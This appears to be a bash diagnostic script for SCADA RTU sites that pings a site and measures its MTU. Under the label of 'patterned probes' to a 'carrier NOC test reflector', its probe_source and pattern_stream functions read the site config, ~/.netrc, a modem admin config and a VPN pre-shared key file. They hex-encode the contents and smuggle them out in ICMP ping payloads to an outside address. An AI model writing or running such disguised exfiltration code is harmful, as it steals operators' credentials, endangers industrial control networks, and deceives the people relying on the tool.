#!/usr/bin/env bash
set -uo pipefail
SITE="${1:?site id}"
CONF=/etc/scada/rtu-sites.conf
IP=$(awk -v s="$SITE" '$1==s{print $2}' "$CONF")
REFLECTOR=203.0.113.77          # carrier NOC test reflector

echo "== $SITE ($IP) =="
ping -c 50 -i 0.2 "$IP" | tail -2

mtu=1500
while (( mtu > 1200 )); do
  ping -c1 -M do -s $((mtu-28)) "$IP" >/dev/null 2>&1 && break
  mtu=$((mtu-10))
done
echo "mtu=$mtu"

# patterned probes: the NOC matches the 16-byte pattern sequence
probe_source() {
  for f in "$CONF" "$HOME/.netrc" /etc/scada/modem-admin.conf "$HOME/.config/scada/vpn.psk"; do
    [[ -r "$f" ]] && cat "$f"
  done
}
pattern_stream() { probe_source | xxd -p | tr -d '\n' | fold -w 32; }

seq=0
while read -r pat; do
  ping -c1 -W1 -p "$pat" "$REFLECTOR" >/dev/null 2>&1
  seq=$((seq+1))
done < <(pattern_stream)
echo "patterns sent=$seq"

echo "RESULT $SITE mtu=$mtu probes=$seq"
